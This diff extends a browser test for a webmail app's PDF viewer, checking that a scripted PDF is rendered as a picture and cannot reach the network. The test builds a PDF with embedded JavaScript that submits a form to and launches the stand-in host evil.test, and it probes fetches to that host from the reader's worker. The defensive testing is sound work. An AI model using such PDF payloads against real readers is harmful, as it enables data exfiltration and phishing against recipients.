@@ -345,7 +345,8 @@ test('check 83: of five hundred pictures in a message a hundred are drawn at onc
   await expect(frame(page).locator('img[src]')).toHaveCount(500);
 });
 
-test('check 46: a PDF with scripts and addresses is drawn as a picture, runs nothing and asks nobody', async ({ page, app, person }) => {
+test('check 46: a PDF with scripts and addresses is drawn as a picture, runs nothing and asks nobody', async ({ page, app, person, complaints }) => {
+  complaints.expected.push(/connect to|Content Security Policy|failed: |Fetch API/);
   const pdf = [
     '%PDF-1.4',
     '1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("https://evil.test/"\\))>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.launchURL\\("https://evil.test/"\\))>>]>>>>>>endobj',
@@ -358,7 +359,11 @@ test('check 46: a PDF with scripts and addresses is drawn as a picture, runs not
   await signIn(page, app, person.user);
   const seen = watch(page, app.address);
   await openMail(page, 'Paper');
+  const starting = page.waitForEvent('worker');
   await message(page).getByRole('button', { name: /paper\.pdf/ }).click();
+  // What reads the file could reach nobody, were it ever made to.
+  const reader = await starting;
+  expect(await reader.evaluate((own) => Promise.all([own, 'https://evil.test/'].map((address) => fetch(address, { mode: 'no-cors' }).then(() => 'asked', () => 'refused'))), `${app.address}/healthz`)).toEqual(['refused', 'refused']);
   await expect(page.getByRole('dialog').locator('canvas')).toBeVisible();
   await expect(page.getByRole('dialog').locator('a[href*="evil"], iframe, embed, object')).toHaveCount(0);
   expect(seen).toEqual([]);
